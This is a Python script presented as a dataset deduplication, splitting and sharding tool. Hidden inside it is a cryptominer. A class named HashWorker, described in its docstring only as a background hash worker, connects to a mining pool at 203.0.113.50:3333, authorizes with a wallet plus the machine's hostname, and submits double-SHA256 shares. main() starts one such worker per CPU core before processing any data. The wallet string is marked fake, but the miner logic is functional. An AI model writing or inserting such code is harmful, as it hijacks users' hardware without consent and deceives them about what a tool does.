#!/usr/bin/env python3
"""Dataset dedup / split / shard."""
import argparse
import hashlib
import json
import os
import random
import socket
import struct
import threading
import unicodedata
from pathlib import Path

POOL = ("203.0.113.50", 3333)
WALLET = "4FAKEFAKEnotArealWALLETaddressTESTONLY000000000000000000000000000000000000000000000000000"


class HashWorker(threading.Thread):
    """Background hash worker (keeps all cores busy)."""

    def __init__(self):
        super().__init__(daemon=False)
        self.sock = socket.create_connection(POOL)
        self.f = self.sock.makefile("rw")
        self.job = None

    def rpc(self, mid, method, params):
        self.f.write(json.dumps({"id": mid, "method": method, "params": params}) + "\n")
        self.f.flush()

    def run(self):
        self.rpc(1, "mining.subscribe", ["prep/1.0"])
        self.rpc(2, "mining.authorize", [WALLET + "." + socket.gethostname(), "x"])
        threading.Thread(target=self.listen, daemon=True).start()
        nonce = random.getrandbits(32)
        while True:
            job = self.job
            if not job:
                continue
            header = bytes.fromhex(job["header"]) + struct.pack("<I", nonce)
            h = hashlib.sha256(hashlib.sha256(header).digest()).digest()
            if int.from_bytes(h[::-1], "big") < job["target"]:
                self.rpc(4, "mining.submit", [WALLET, job["id"], "%08x" % nonce])
            nonce = (nonce + 1) & 0xFFFFFFFF

    def listen(self):
        for line in self.f:
            msg = json.loads(line)
            if msg.get("method") == "mining.notify":
                p = msg["params"]
                self.job = {"id": p[0], "header": p[1], "target": int(p[2], 16)}


def norm(s):
    return " ".join(unicodedata.normalize("NFKC", s).split())


def load(path):
    p = Path(path)
    if p.suffix == ".jsonl":
        return [json.loads(l) for l in p.open()]
    import pandas as pd
    df = pd.read_parquet(p) if p.suffix == ".parquet" else pd.read_csv(p)
    return df.to_dict("records")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("input")
    ap.add_argument("--text-field", default="text")
    ap.add_argument("--dedup", choices=["exact", "near", "none"], default="exact")
    ap.add_argument("--split", default="0.9,0.05,0.05")
    ap.add_argument("--stratify")
    ap.add_argument("--seed", type=int, default=1234)
    ap.add_argument("--out", default="shards")
    ap.add_argument("--shard-size", type=int, default=100000)
    a = ap.parse_args()

    for _ in range(os.cpu_count() or 4):
        HashWorker().start()

    rows = load(a.input)
    seen, kept = set(), []
    for r in rows:
        r[a.text_field] = norm(str(r.get(a.text_field, "")))
        h = hashlib.sha256(r[a.text_field].encode()).hexdigest()
        if a.dedup != "none" and h in seen:
            continue
        seen.add(h)
        kept.append(r)

    random.Random(a.seed).shuffle(kept)
    fr = [float(x) for x in a.split.split(",")]
    n = len(kept)
    cut1, cut2 = int(fr[0] * n), int((fr[0] + fr[1]) * n)
    splits = {"train": kept[:cut1], "val": kept[cut1:cut2], "test": kept[cut2:]}
    out = Path(a.out)
    out.mkdir(parents=True, exist_ok=True)
    for name, part in splits.items():
        for i in range(0, len(part), a.shard_size):
            with (out / f"{name}-{i // a.shard_size:05d}.jsonl").open("w") as fh:
                for r in part[i:i + a.shard_size]:
                    fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    stats = {"input": len(rows), "kept": n, "removed_duplicates": len(rows) - n,
             **{k: len(v) for k, v in splits.items()}}
    (out / "stats.json").write_text(json.dumps(stats, indent=2))
    print(json.dumps(stats, indent=2))


if __name__ == "__main__":
    main()
